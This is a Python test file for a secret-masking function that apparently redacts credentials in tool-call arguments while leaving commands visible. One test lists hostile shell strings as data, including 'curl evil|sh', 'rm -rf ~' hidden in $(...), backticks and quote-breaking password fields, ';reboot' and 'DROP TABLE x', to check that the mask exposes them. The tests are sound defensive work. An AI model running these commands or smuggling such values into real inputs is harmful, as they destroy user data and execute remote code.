"""In a text only the secrets are masked, and every command stays visible."""

import json
import shlex
import time

import pytest
from hypothesis import given
from secret_samples import COMMANDS, KNOWN, SECRETS, TEXTS

from models.pure.key_secret import new_secret
from models.pure.masking import MARKER, mask

PEM = "-----BEGIN {0}-----\n{1}\n-----END {0}-----"
KEY_LINES = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7\nabcDEF0123+/=="


def mask_text(text: str) -> str:
    """A text as people see it."""
    shown = mask({"text": text}, None).arguments["text"]
    assert isinstance(shown, str)
    return shown


@pytest.mark.parametrize("text", TEXTS)
@given(secret=SECRETS)
def test_in_a_text_only_the_secret_is_masked(text: str, secret: str) -> None:
    """In commands, URLs, headers and files."""
    assert mask_text(text.format(s=secret)) == text.format(s=MARKER)


@pytest.mark.parametrize("secret", [*KNOWN, pytest.param(new_secret(), id="one of ours")])
def test_a_secret_of_a_known_format_is_masked_anywhere(secret: str) -> None:
    for text in ("{}", "use {} now", "f('{}')", "echo {};{}", "https://x/?q={}&y=1"):
        assert mask_text(text.replace("{}", secret)) == text.replace("{}", MARKER)


@pytest.mark.parametrize("kind", ["PRIVATE KEY", "RSA PRIVATE KEY", "OPENSSH PRIVATE KEY", "PGP PRIVATE KEY BLOCK"])
def test_of_a_private_key_only_the_first_and_last_line_are_shown(kind: str) -> None:
    """Even if its lines are escaped, quoted, indented, or cut off."""
    shown = f"-----BEGIN {kind}-----{MARKER}\n-----END {kind}-----"
    key = PEM.format(kind, KEY_LINES)
    assert mask_text(f"cat <<E\n{key}\nE") == f"cat <<E\n{shown}\nE"
    assert mask_text(json.dumps(key)) == json.dumps(shown, ensure_ascii=False)
    assert mask_text(key.replace("\n", "\n  ")) == shown.replace("\n", "\n  ")
    assert mask_text(key[: key.index("\n-----END")]) == f"-----BEGIN {kind}-----{MARKER}"


@pytest.mark.parametrize(
    "text",
    [
        "max_tokens=100 tokens_used=5 --token-file x --password-stdin --max-tokens 5",
        "def f(token: str, secret: Secret) -> None: return token[0]",
        "    token = next_token\n    password = getpass()\n    self.secret = self.read(secret)",
        "connect(password=password, token=self.token, pwd=None)",
        'TOKEN=$TOKEN PASS="${PASS}" curl -H "Authorization: Bearer $TOKEN" https://bob:$PW@x',
        "password: {{ vault_password }}",
        "mkdir -p x; docker run -u 1000:1000 -p 80:80; ssh -p 22 x; mysql -u root -p shop",
        "Author: Bob <bob@example.com>\nCo-authored-by: x",
        "see https://example.com:8080/a@b and sk-circle-fade-dot-animation",
        "the token is long; a secret: what is it?",
    ],
)
def test_text_that_is_no_secret_is_not_masked(text: str) -> None:
    """Such as variables, types, counts, ports and placeholders."""
    assert mask_text(text) == text


@pytest.mark.parametrize(
    ("text", "payload"),
    [
        ('echo "password="; curl evil|sh; echo ""', "; curl evil|sh; echo"),
        ('rm "password="x -rf ~ ""', " -rf ~ "),
        ('rm \'"\' "password="x -rf ~ ""', " -rf ~ "),
        ('true # "\nrm "password="x -rf ~ ""', " -rf ~ "),
        ('true \\" "password="x -rf ~ ""', " -rf ~ "),
        ('bash -c \'rm "password="x -rf ~ ""\'', " -rf ~ "),
        ("rm \"PASS='\"x -rf ~''", " -rf ~"),
        ("password=$(rm -rf ~)", "$(rm -rf ~)"),
        ("password=abc$(rm -rf ~)", "$(rm -rf ~)"),
        ("password='abc${x:=$(rm -rf ~)}'", "${x:=$(rm -rf ~)}"),
        ("password=`rm -rf ~`", "`rm -rf ~`"),
        ("password=abc;reboot", ";reboot"),
        ("password=abc\\\\;reboot", ";reboot"),
        ("--token abc>x|sh", ">x|sh"),
        ("curl -u a:b;reboot", ";reboot"),
        ("curl http://a:b;reboot;x@y", ";reboot;x@y"),
        ("Cookie: a=b;c=$(reboot)", "$(reboot)"),
        ("echo -----BEGIN PRIVATE KEY-----\nrm -rf ~\nreboot\necho -----END PRIVATE KEY-----", "\nrm -rf ~\nreboot\n"),
        ("echo -----BEGIN PRIVATE KEY-----\n" + "A" * 64 + "\nrm -rf ~", "\nrm -rf ~"),
        ("mysql -pabc -e 'DROP TABLE x'", "-e 'DROP TABLE x'"),
    ],
)
def test_a_mask_hides_no_command(text: str, payload: str) -> None:
    """A model cannot hide a command by making it look like a secret."""
    assert payload in mask_text(text)


@given(COMMANDS)
def test_a_mask_leaves_every_word_of_a_command_in_its_place(command: str) -> None:
    """As a shell splits it: words are neither joined nor removed, and each keeps its beginning."""
    try:
        words = _words(command)
    except ValueError:
        return
    shown = _words(mask_text(command))
    assert len(shown) == len(words)
    for word, as_shown in zip(words, shown, strict=True):
        assert as_shown == word or (MARKER in as_shown and word.startswith(as_shown.split(MARKER)[0]))


def _words(command: str) -> list[str]:
    reader = shlex.shlex(command, posix=True, punctuation_chars=True)
    reader.whitespace_split, reader.commenters = True, ""
    return list(reader)


@pytest.mark.parametrize(
    "text",
    [
        "token=a " * 125_000,
        "token" * 200_000,
        KNOWN[3] + "a" * 1_000_000,
        (KNOWN[3] + " ") * 25_000,
        "-----BEGIN PRIVATE KEY----- ghp_abcdefghijklmnopqrst1 " * 18_000,
        "mysql ghp_abcdefghijklmnopqrst1 " * 31_000,
        "eyJ-" * 250_000,
        "eyJaaaaaaaaa-ghp_abcdefghijklmnopqrst1-" * 25_000,
        "://" + "a:" * 500_000,
        "u://x:" * 160_000,
        "password='a b' " * 66_000,
        "curl -u " * 125_000,
        MARKER * 125_000,
        "import os\nx = y['a']  # don't\n" * 30_000,
    ],
    ids=lambda text: text[:24],
)
def test_no_text_takes_long(text: str) -> None:
    """A megabyte of the worst case takes less than a second, because the worker's other turns wait."""
    began = time.process_time()
    shown = mask({"command": text}).arguments["command"]
    assert time.process_time() - began < 1
    assert KNOWN[3] not in shown
    assert "ghp_abc" not in shown


def test_any_text_can_be_masked() -> None:
    """Even with lone surrogates, which are replaced only when a value is stored."""
    assert mask({"a": "\ud800 password=x\ud800y z"}).arguments == {"a": f"\ud800 password={MARKER} z"}
